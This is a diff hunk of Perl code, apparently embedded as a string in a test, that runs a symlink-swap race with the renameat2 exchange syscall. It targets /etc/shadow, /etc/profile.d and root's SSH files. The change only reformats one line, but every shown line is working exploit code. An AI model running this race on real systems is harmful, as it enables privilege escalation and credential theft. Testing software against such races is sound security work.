@@ -165,7 +165,8 @@ $( = 4711; $) = '4711 4711'; $< = $> = 4711;
 my $call = (split ' ', qx(uname -m))[0] eq 'aarch64' ? 276 : 316;
 sub swap { my ($a, $b) = @_; syscall($call, -100, $a, -100, $b, 2) }
 chdir '/home/u';
-symlink '/etc', '.ssh-link'; symlink '/etc/profile.d', '.app-link'; symlink '/root/.ssh/authorized_keys', '.ssh/link'; symlink '/root/.ssh', 'd-link';
+symlink '/etc', '.ssh-link'; symlink '/etc/profile.d', '.app-link'; symlink '/root/.ssh/authorized_keys', ` +
+	`'.ssh/link'; symlink '/root/.ssh', 'd-link';
 symlink '/etc/shadow', '.ssh/authorized_keys';
 for (my $i = 0; ; $i++) {
 	swap('.ssh', '.ssh-link'); swap('.app', '.app-link'); swap('d', 'd-link');
